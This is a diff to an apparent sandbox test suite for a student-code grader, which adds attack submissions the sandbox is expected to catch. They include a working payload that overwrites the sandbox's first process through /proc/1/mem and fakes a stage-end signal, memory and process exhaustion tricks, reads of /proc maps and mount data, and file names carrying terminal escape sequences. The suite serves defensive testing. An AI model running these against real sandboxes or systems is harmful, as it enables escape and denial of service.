@@ -6,6 +6,7 @@ The tests never import this code; it runs only in the sandbox.
 
 from __future__ import annotations
 
+import hashlib
 import io
 import json
 import os
@@ -88,6 +89,106 @@ class Liar(torch.Tensor):
         if function.__name__ in ("isfinite", "all"):
             return torch.tensor(True)
         return super().__torch_function__(function, types, args, kwargs or {})
+"""
+
+# Keeps bubblewrap's first process alive, if the stage can write to its memory, and then tells
+# bubblewrap that the stage has ended. The code is for x86-64; elsewhere the first "SEEN" counts.
+TAKE_OVER = """
+import ctypes, os, time
+libc = ctypes.CDLL(None)
+def take_over():
+    lines = [line.split() for line in open("/proc/1/maps")]
+    code = next(line for line in lines if line[1] == "r-xp" and "libc" in line[-1])
+    start, end = (int(word, 16) for word in code[0].split("-"))
+    # prctl(PR_SET_PDEATHSIG, 0); for (;;) pause();
+    forever = bytes.fromhex("b89d000000bf0100000031f60f05b8220000000f05ebf7")
+    with open("/proc/1/mem", "r+b", buffering=0) as memory:
+        print("SEEN", memory)
+        memory.seek(start)
+        memory.write(b"\\x90" * (end - start - len(forever)) + forever)
+    if os.fork() == 0:
+        if os.fork() == 0:
+            time.sleep(0.1)  # the end of this orphan wakes the first process
+        os._exit(0)
+    time.sleep(0.5)
+    if os.fork() == 0:
+        while True: time.sleep(1000)
+    first = libc.syscall(434, 1, 0)  # pidfd_open
+    for number in os.listdir("/proc/1/fd"):
+        if "eventfd" in os.readlink(f"/proc/1/fd/{number}"):
+            event = libc.syscall(438, first, int(number), 0)  # pidfd_getfd
+            os.write(event, (1).to_bytes(8, "little"))
+if os.getpid() != 1:
+    take_over()
+"""
+VMSPLICE = """
+import ctypes, mmap, os
+libc = ctypes.CDLL(None, use_errno=True)
+class Piece(ctypes.Structure):
+    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
+page = ctypes.create_string_buffer(4096)
+read, write = os.pipe()
+if libc.vmsplice(write, ctypes.byref(Piece(ctypes.addressof(page), 4096)), 1, 0) < 0:
+    raise OSError(ctypes.get_errno(), "vmsplice")
+"""
+# The kernel keeps events until they are read: about 1 KiB each, counted for no process.
+INOTIFY = """
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+queue = libc.inotify_init()
+if queue < 0:
+    raise OSError(ctypes.get_errno(), "inotify_init")
+"""
+# Reading untouched memory fills page tables, and no other count. Each child is a fresh Python,
+# because the memory that it would share with this process is counted.
+PAGE_TABLES = """
+import os, sys, time
+CODE = '''
+import mmap, os, sys, time
+SIZE = 62 << 30
+kinds = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000  # MAP_NORESERVE
+hole = mmap.mmap(-1, SIZE, flags=kinds, prot=mmap.PROT_READ)
+hole.madvise(15)  # MADV_NOHUGEPAGE
+for place in range(0, SIZE, 2 << 20):
+    hole[place]
+os.write(int(sys.argv[1]), b"x")
+time.sleep(1000)
+'''
+read, write = os.pipe()
+os.set_inheritable(write, True)
+for _ in range(11):
+    if os.fork() == 0:
+        os.execv(sys.executable, [sys.executable, "-I", "-c", CODE, str(write)])
+for _ in range(11):
+    os.read(read, 1)
+time.sleep(2)
+"""
+SHORT_LIVED = """
+import os, time
+for _ in range(100):
+    for _ in range(4):
+        if os.fork() == 0:
+            while time.process_time() < 0.03: pass
+            os._exit(0)
+    for _ in range(4):
+        os.wait()
+"""
+READ_BACK = """
+import os
+back = os.open("/proc/self/fd/1", os.O_RDONLY | os.O_NONBLOCK)
+for _ in range(100_000):
+    os.write(1, b"x")
+    try: os.read(back, 10)
+    except BlockingIOError: pass
+"""
+# What tells one stage what another has read, or where the lab is on the machine.
+OWN_FILES = ("pagemap", "smaps", "smaps_rollup", "maps", "mem", "mountinfo", "mounts", "cgroup")
+LOOK_AT_ITSELF = f"""
+import os
+for name in {OWN_FILES}:
+    for pid in ("self", "1"):
+        try: print("SEEN", name, open(f"/proc/{{pid}}/{{name}}", "rb").read(1))
+        except OSError: pass
 """
 
 
@@ -208,12 +309,35 @@ ATTACKS: dict[str, Attack] = {
     "memory-in-sockets": Attack(
         ("student error",), "import socket\nsocket.socketpair()\n", says="PermissionError"
     ),
+    "memory-in-pipes": Attack(("student error",), VMSPLICE, says="PermissionError"),
+    "memory-in-inotify": Attack(("student error",), INOTIFY, says="PermissionError"),
+    "memory-in-page-tables": Attack(("out of memory",), PAGE_TABLES),
+    "memory-in-file-locks": Attack(
+        ("student error",),
+        "import fcntl\nfile = open('/tmp/locked', 'w')\nfor n in range(1000):\n"
+        "    fcntl.lockf(file, fcntl.LOCK_EX, 1, 2 * n)\n",
+        says="PermissionError",
+    ),
+    "memory-in-empty-files": Attack(
+        ("student error",),
+        "for n in range(50_000):\n    for folder in ('/tmp', '/dev/shm'):\n"
+        "        open(f'{folder}/{n}', 'x').close()\n",
+        says="No space left",
+    ),
     "task-that-is-no-word": Attack(
         ("contract breach",), state=lambda state: state.update(task=["\x1b[2J"]),
         says="was trained for",
     ),
     "endless-loop": Attack(("timeout",), "while True:\n    pass\n"),
     "endless-sleep": Attack(("timeout",), "import time\ntime.sleep(10_000)\n"),
+    "time-of-short-lived-children": Attack(
+        ("timeout",), SHORT_LIVED
+    ),
+    "time-of-ignored-children": Attack(
+        ("student error",),
+        "import signal\nsignal.signal(signal.SIGCHLD, signal.SIG_IGN)\n" + SHORT_LIVED,
+        says="PermissionError",
+    ),
     "full-disk": Attack(
         ("student error",),
         "n = 0\nwhile True:\n    n += 1\n"
@@ -234,6 +358,9 @@ ATTACKS: dict[str, Attack] = {
         "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
         "        while True: time.sleep(1000)\n    os._exit(0)\n",
     ),
+    "takes-over-the-first-process": Attack(GOOD, TAKE_OVER),
+    "looks-at-itself": Attack(GOOD, LOOK_AT_ITSELF),
+    "reads-its-output-back": Attack(("student error",), READ_BACK),
     "exit-zero": Attack(
         ("student error",), "import os\nos._exit(0)\n", says="ended without a result"
     ),
@@ -335,6 +462,28 @@ def write(
     if name == "reduce-in-the-checkpoint":
         state["bomb"] = Bomb(marker)
     torch.save(state, folder / f"{attack.task}.pth")
+
+
+# Names of folders, as bytes, and the students' keys. The bytes are Latin-1, escape sequences with a
+# formula, and two names of the greatest length that differ only in case.
+NAMES = {
+    b"name-in-latin-\xe9": "name-in-latin-é",
+    b"\x1b[2J\xe2\x80\xae=name-of-escape-sequences": "2J-name-of-escape-sequences",
+    b"x" * 255: f"{'x' * 47}-{hashlib.sha256(b'x' * 255).hexdigest()[:12]}",
+    b"X" * 255: f"{'X' * 47}-{hashlib.sha256(b'X' * 255).hexdigest()[:12]}",
+}
+
+
+def write_names(folder: Path) -> None:
+    """Write folders and files with hostile names. They hold no submission that could be run."""
+    for name in NAMES:
+        for inside in (b"a\x1b[31m", b"\xe9"):
+            file = os.fsencode(folder) + b"/" + name + b"/" + inside + b"/submission.py"
+            os.makedirs(os.path.dirname(file))
+            with open(file, "wb"):
+                pass
+    with open(os.fsencode(folder) + b"/loose-\x1b[2J\xe9.py", "wb"):
+        pass
 
 
 def write_archives(folder: Path) -> dict[str, str]:
